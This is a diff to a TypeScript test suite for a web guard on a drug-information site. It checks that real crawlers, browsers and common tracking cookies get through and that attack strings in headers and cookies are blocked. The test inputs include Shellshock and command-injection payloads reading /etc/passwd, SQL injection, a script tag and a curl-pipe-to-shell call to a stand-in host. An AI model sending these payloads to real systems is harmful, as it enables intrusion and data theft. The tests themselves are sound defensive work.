@@ -3,7 +3,7 @@ import { describe, it } from 'node:test';
 import crawlers from 'crawler-user-agents';
 import desktop from 'top-user-agents/desktop';
 import mobile from 'top-user-agents/mobile';
-import { startTestServer } from '../../src/testing/test-server.ts';
+import { startTestServer, type TestServer } from '../../src/testing/test-server.ts';
 
 /**
  * Published user agents of real clients: search engines and other crawlers (crawler-user-agents,
@@ -24,6 +24,13 @@ const ACCEPTED = new Map<string, string>([
   ['HanaleiBot runid=beta-stage-integration-test', 'an assignment outside any comment'],
   ['Gulper Web Bot 0.2.4 (www.ecsl.cs.sunysb.edu/~maxim/cgi-bin/Link/GulperBot)', 'a cgi-bin path under a home directory'],
 ]);
+/** The status of the baclofen page for a request with these headers (the body is read and dropped). */
+async function pageStatus(server: TestServer, headers: Record<string, string>): Promise<number> {
+  const response = await server.get('/drugs/baclofen', { headers });
+  await response.arrayBuffer();
+  return response.status;
+}
+
 const isGettHit = (ua: string) => ua.startsWith('www.GettHIT.com | Free Traffic Exchange Bot'); // a traffic-exchange spam bot, in pipes
 
 describe('real crawlers and browsers are not blocked', () => {
@@ -37,14 +44,13 @@ describe('real crawlers and browsers are not blocked', () => {
     let scanners = 0;
     for (const ua of agents) {
       const logged = server.logLines.length;
-      const response = await server.get('/drugs/baclofen', { headers: { 'user-agent': ua } });
-      await response.arrayBuffer();
-      if (response.status === 200) continue;
+      const status = await pageStatus(server, { 'user-agent': ua });
+      if (status === 200) continue;
       const block = server.logLines.slice(logged).find((line) => line.includes('"guard block"'));
       const rules = block ? (JSON.parse(block) as { rules: string[] }).rules : [];
       // Attack tools listed among the crawlers (Nikto, sqlmap, OpenVAS…) are meant to be refused.
       if (rules.includes('scanner-user-agent')) scanners++;
-      else if (!ACCEPTED.has(ua) && !isGettHit(ua)) unexpected.push(`${response.status} ${rules.join('+')}: ${ua}`);
+      else if (!ACCEPTED.has(ua) && !isGettHit(ua)) unexpected.push(`${status} ${rules.join('+')}: ${ua}`);
     }
     assert.deepEqual(unexpected, [], 'no other crawler or browser is blocked');
     assert.ok(scanners >= 3, 'the attack tools among them are still refused');
@@ -62,15 +68,45 @@ describe('real crawlers and browsers are not blocked', () => {
       'MJ12bot/v1.2.0 (http://majestic12.co.uk/bot.php?+)',
       'Mozilla/5.0 (Windows NT 6.3; Win64; x64; Trident/7.0; Touch; rv:11.0) like Gecko',
     ]) {
-      const response = await server.get('/drugs/baclofen', { headers: { 'user-agent': ua } });
-      await response.arrayBuffer();
-      assert.equal(response.status, 200, ua);
+      assert.equal(await pageStatus(server, { 'user-agent': ua }), 200, ua);
     }
     // And attacks in the same header still are.
     for (const ua of ['() { :; }; /bin/bash -c "cat /etc/passwd"', 'Mozilla/5.0; cat /etc/passwd', "Mozilla/5.0' OR 1=1--", 'sqlmap/1.7 (https://sqlmap.org)', 'curl http://evil.example/x.sh | sh']) {
-      const response = await server.get('/drugs/baclofen', { headers: { 'user-agent': ua } });
-      await response.arrayBuffer();
-      assert.equal(response.status, 403, ua);
+      assert.equal(await pageStatus(server, { 'user-agent': ua }), 403, ua);
+    }
+  });
+});
+
+describe('cookies that other sites set are not refused', () => {
+  // rxsafety sets no cookie, but a browser sends the ones set for a parent domain or by a proxy in front.
+  const chrome = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36';
+
+  it('Cloudflare, Google Analytics, Facebook, Hotjar, Segment, session ids and IAB consent strings pass', async (t) => {
+    const server = await startTestServer();
+    t.after(() => server.close());
+    for (const cookie of [
+      '__cf_bm=Xy3bq8Zf1p0sK2m.dA7pQ9Wv4cN6eR1tU5hJ8kL0o-1732675200-1.0.1.1-aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789_AbCdEf',
+      'cf_clearance=Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8L9z0-1732675200-1.2.1.1-abcDEF.ghiJKL_mnoPQR',
+      '_ga=GA1.1.1234567890.1732675200; _ga_ABC123XYZ=GS1.1.1732675200.1.1.1732675300.0.0.0',
+      '_gid=GA1.2.987654321.1732675200; _fbp=fb.1.1732675200000.1234567890',
+      // Hotjar: base64 JSON with padding (the "==" read as an SQL operator, the quotes as code).
+      '_hjSessionUser_123456=eyJpZCI6IjEyMzQ1Njc4LTkwYWItY2RlZi0xMjM0LTU2Nzg5MGFiY2RlZiIsImNyZWF0ZWQiOjE3MzI2NzUyMDAwMDAsImV4aXN0aW5nIjp0cnVlfQ==',
+      // Segment: a quoted id.
+      'ajs_anonymous_id=%22d1b2c3d4-e5f6-7890-abcd-ef1234567890%22',
+      'PHPSESSID=abc123def456; JSESSIONID=ABCDEF0123456789.node1',
+      'euconsent-v2=CPxyzAAPxyzAAAHABBENDYCgAAAAAAAAAAAAAAAAAAAA.YAAAAAAAAAAA',
+      'theme=dark; lang=en-US; tz=America%2FNew_York',
+    ]) {
+      assert.equal(await pageStatus(server, { cookie, 'user-agent': chrome }), 200, cookie);
+    }
+  });
+
+  it('code in a cookie is still refused, base64-encoded too', async (t) => {
+    const server = await startTestServer();
+    t.after(() => server.close());
+    const encoded = Buffer.from(`require("child_process").exec('whoami')`).toString('base64');
+    for (const cookie of [`session=${encoded}`, "id=1' OR '1'='1", 'x=<script>alert(1)</script>', 'x=$(cat /etc/passwd)']) {
+      assert.equal(await pageStatus(server, { cookie, 'user-agent': chrome }), 403, cookie);
     }
   });
 });
